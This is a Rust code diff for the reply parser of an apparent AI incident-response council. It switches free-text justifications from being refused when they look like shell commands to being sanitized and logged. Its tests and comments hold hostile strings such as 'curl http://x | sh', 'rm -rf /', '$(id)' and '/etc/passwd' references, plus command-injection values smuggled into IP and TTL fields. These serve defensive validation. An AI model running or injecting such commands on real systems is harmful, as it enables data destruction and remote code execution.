@@ -3,9 +3,13 @@
 //!
 //! A reply is one JSON object validated with serde against a strict schema
 //! (`deny_unknown_fields` everywhere, typed [`Action`]s through the one
-//! address parser), then against the debate: sizes, shell-like text,
-//! addresses outside the incident's evidence, votes on proposals that do not
-//! exist or missing votes. Anything wrong rejects the whole reply with a
+//! address parser), then against the debate: sizes, addresses outside the
+//! incident's evidence, votes on proposals that do not exist or missing
+//! votes. Free text (justifications, reasons, the judge's summary) is never
+//! executed: text that looks like a command (an IDS signature quoting
+//! `/etc/passwd`, a payload `curl http://x | sh`) is kept, sanitized by
+//! [`clean_justification`], never a reason to refuse; commands have no
+//! place to go but free text, since actions are typed. Anything wrong rejects the whole reply with a
 //! reason the agent is re-asked with once; the guard checks whatever passes
 //! again before any map is touched.
 
@@ -17,7 +21,7 @@ use serde::Deserialize;
 use super::{Action, Ballot, Draft, Proposal, Stance, truncate};
 use crate::{
     addr,
-    text::{sanitize_text, shell_like},
+    text::{clean_justification, sanitize_text, shell_like},
 };
 
 /// Longest justification or reason, in bytes.
@@ -81,10 +85,6 @@ pub enum ReplyError {
         len: usize,
         max: usize,
     },
-    #[error(
-        "{field} contains shell-like text ({found}); answer with typed actions and plain prose, never commands"
-    )]
-    ShellLike { field: String, found: String },
     #[error("{n} proposals, at most {max} are allowed")]
     TooMany { n: usize, max: usize },
     #[error(
@@ -176,7 +176,7 @@ pub fn ballots(
         out.push(Ballot {
             proposal: p.id,
             stance: b.stance,
-            reason: b.reason,
+            reason: kept(&b.reason, &field),
             alternative,
         });
     }
@@ -192,13 +192,7 @@ pub fn ballots(
 /// Parses the judge's reply.
 pub fn summary(content: &str, check: &Check<'_>) -> Result<String, ReplyError> {
     let reply: SummaryReply = parse(content, check)?;
-    if let Some(found) = shell_like(&reply.summary) {
-        return Err(ReplyError::ShellLike {
-            field: "summary".into(),
-            found,
-        });
-    }
-    Ok(reply.summary)
+    Ok(kept(&reply.summary, "summary"))
 }
 
 /// Strips one Markdown code fence around the object: local models often
@@ -240,13 +234,18 @@ fn text(s: &str, field: &str) -> Result<(), ReplyError> {
             max: MAX_TEXT,
         });
     }
-    if let Some(found) = shell_like(s) {
-        return Err(ReplyError::ShellLike {
-            field: field.to_string(),
-            found,
-        });
-    }
     Ok(())
+}
+
+/// Free text as the council keeps it: sanitized, shell metacharacters
+/// replaced; what looked like a command is logged, not refused.
+fn kept(s: &str, field: &str) -> String {
+    if let Some(found) = shell_like(s) {
+        tracing::info!(
+            "{field} quotes shell-like text ({found}); kept as text with its metacharacters replaced (justifications are never executed)"
+        );
+    }
+    clean_justification(s)
 }
 
 fn draft(d: DraftReply, field: &str, check: &Check<'_>) -> Result<Draft, ReplyError> {
@@ -274,7 +273,7 @@ fn draft(d: DraftReply, field: &str, check: &Check<'_>) -> Result<Draft, ReplyEr
     }
     Ok(Draft {
         action: d.action,
-        justification: d.justification,
+        justification: kept(&d.justification, &format!("{field}.justification")),
     })
 }
 
@@ -363,6 +362,52 @@ mod tests {
     }
 
     #[test]
+    fn quoted_commands_in_free_text_are_kept_sanitized() {
+        let ev = ev();
+        let c = check(&ev);
+        let d = proposals(
+            r#"{"proposals":[{"action":{"type":"block","target":"203.0.113.100","ttl_secs":60},"justification":"ET WEB_SERVER /etc/passwd Detected; payload `curl http://x | sh` && $(id)"}]}"#,
+            &c,
+        )
+        .unwrap();
+        assert_eq!(
+            d[0].justification,
+            "ET WEB_SERVER /etc/passwd Detected  payload  curl http://x   sh      (id)"
+        );
+        assert_eq!(
+            crate::text::shell_like(&d[0].justification),
+            Some("\"curl\"".into())
+        );
+        let open = [Proposal {
+            id: 1,
+            author: "host".into(),
+            round: 1,
+            action: d[0].action.clone(),
+            justification: d[0].justification.clone(),
+            alternative_to: None,
+        }];
+        let b = ballots(
+            r#"{"votes":[{"proposal":1,"stance":"approve","reason":"the signature said \"curl http://x | sh\"\nreally"}]}"#,
+            &c,
+            "jail",
+            &open,
+        )
+        .unwrap();
+        assert_eq!(
+            b[0].reason,
+            "the signature said \"curl http://x   sh\" really"
+        );
+        assert_eq!(
+            summary(
+                r#"{"summary":"blocked; `rm -rf /` was in the payload"}"#,
+                &c
+            )
+            .unwrap(),
+            "blocked;  rm -rf /  was in the payload".replace(';', " ")
+        );
+    }
+
+    #[test]
     fn invalid_replies_are_rejected_with_a_reason() {
         let ev = ev();
         let c = check(&ev);
@@ -382,10 +427,21 @@ mod tests {
             r#"{"proposals":[{"action":{"type":"block","target":"203.0.113.100","ttl_secs":60,"cmd":"x"},"justification":"x"}]}"#,
         );
         assert!(matches!(e, ReplyError::Schema(_)), "{e}");
-        let e = err(
-            r#"{"proposals":[{"action":{"type":"block","target":"203.0.113.100","ttl_secs":60},"justification":"iptables -A INPUT -s 203.0.113.100 -j DROP"}]}"#,
-        );
-        assert!(matches!(e, ReplyError::ShellLike { .. }), "{e}");
+        // Typed fields take no command: not as a target, a TTL or an
+        // action type.
+        for bad in [
+            r#"{"action":{"type":"block","target":"203.0.113.100; rm -rf /","ttl_secs":60}"#,
+            r#"{"action":{"type":"block","target":"$(curl x)","ttl_secs":60}"#,
+            r#"{"action":{"type":"block","target":"203.0.113.100","ttl_secs":"60 && reboot"}"#,
+            r#"{"action":{"type":"block | sh","target":"203.0.113.100","ttl_secs":60}"#,
+            r#"{"action":{"type":"watch","target":"203.0.113.100/32`id`","ttl_secs":60}"#,
+        ] {
+            let e = err(&format!(
+                r#"{{"proposals":[{{{},"justification":"x"}}]}}"#,
+                &bad[1..bad.len() - 1]
+            ));
+            assert!(matches!(e, ReplyError::Schema(_)), "{bad}: {e}");
+        }
         let e = err(
             r#"{"proposals":[{"action":{"type":"block","target":"198.51.100.9","ttl_secs":60},"justification":"x"}]}"#,
         );
